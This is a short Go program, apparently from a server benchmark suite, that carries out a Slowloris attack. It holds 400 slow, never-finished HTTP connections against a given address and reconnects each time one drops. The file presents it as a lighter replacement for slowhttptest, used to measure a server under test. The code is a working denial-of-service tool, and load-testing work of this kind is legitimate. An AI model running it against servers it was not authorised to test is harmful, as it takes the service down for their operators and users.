// Command slowloris holds 400 slow-header connections against ADDR: each
// sends a request line, then one more header line every 10 s, and never
// finishes its request; when the server closes one, it reconnects at once.
// It is what slowhttptest -c 400 -H -i 10 does, without slowhttptest's busy
// loop, which on a small machine takes CPU from the server being measured
// (bench/run slowloris-go).
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"time"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: slowloris HOST:PORT")
		os.Exit(2)
	}
	addr := os.Args[1]
	for i := 0; i < 400; i++ {
		go hold(addr, i)
		time.Sleep(5 * time.Millisecond) // 200 new connections a second, as slowhttptest -r 200
	}
	select {}
}

// hold keeps one slow connection open, reconnecting whenever it closes.
func hold(addr string, i int) {
	for {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			time.Sleep(100 * time.Millisecond)
			continue
		}
		closed := make(chan struct{})
		go func() { // a server's answer or close ends this connection
			_, _ = io.Copy(io.Discard, c)
			close(closed)
		}()
		fmt.Fprintf(c, "GET /?%d HTTP/1.1\r\nHost: x\r\n", i)
		t := time.NewTicker(10 * time.Second)
	slow:
		for {
			select {
			case <-closed:
				break slow
			case <-t.C:
				if _, err := fmt.Fprintf(c, "X-a: b\r\n"); err != nil {
					break slow
				}
			}
		}
		t.Stop()
		c.Close()
	}
}
